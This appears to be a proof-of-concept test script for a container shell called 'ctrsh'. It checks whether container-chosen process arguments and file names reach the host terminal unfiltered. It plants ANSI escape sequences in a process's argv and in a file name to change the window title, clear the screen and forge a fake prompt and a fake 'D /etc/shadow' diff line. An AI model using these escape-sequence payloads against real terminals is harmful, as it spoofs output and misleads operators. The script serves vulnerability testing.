#!/bin/sh
# Container-chosen strings reach ctrsh's (the host's) terminal unfiltered,
# outside the pseudo-terminal that was meant to keep the container's bytes
# to itself: `ps` prints /proc/PID/cmdline (argv is the process's own),
# `rootfs diff` prints the names the container gave its files (and a \r or
# \n in a name forges lines: a fake "D /etc/shadow", a fake prompt).
# Output piped through `od -c` to show the raw ESC bytes.
# Usage: attack/raw-names.sh CTRSH BUSYBOX_ROOT     (exit 0 = still raw)
set -u
ctrsh=${1:?ctrsh}; root=${2:?busybox root}
cat > "$root/bin/evilname.c" <<'C'
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc > 1) { sleep(30); return 0; }
    char *args[] = {"\033]0;PWNED-TITLE\007\033[2J\033[H\033[31mfake\r\nctrsh[default:running]> ", "x", NULL};
    execv("/proc/self/exe", args);
    return 1;
}
C
gcc -static -o "$root/bin/evilname" "$root/bin/evilname.c" && rm "$root/bin/evilname.c"
printf '#!/bin/sh\ntouch "/$(printf "name\\033]0;TITLE\\007\\033[2J\\rD etc-shadow")"\n' > "$root/bin/evilfile"; chmod +x "$root/bin/evilfile"
out=$("$ctrsh" -c "ns new pid,uts,ipc,net,mnt; rootfs use $root --overlay; start; exec -d /bin/evilname; exec /bin/sleep 0.5; ps; exec /bin/evilfile; rootfs diff; stop" 2>&1)
rm -f "$root/bin/evilname" "$root/bin/evilfile"
printf '%s\n' "$out" | od -c | grep -F '033' | head -6
printf '%s' "$out" | grep -q "$(printf '\033')"
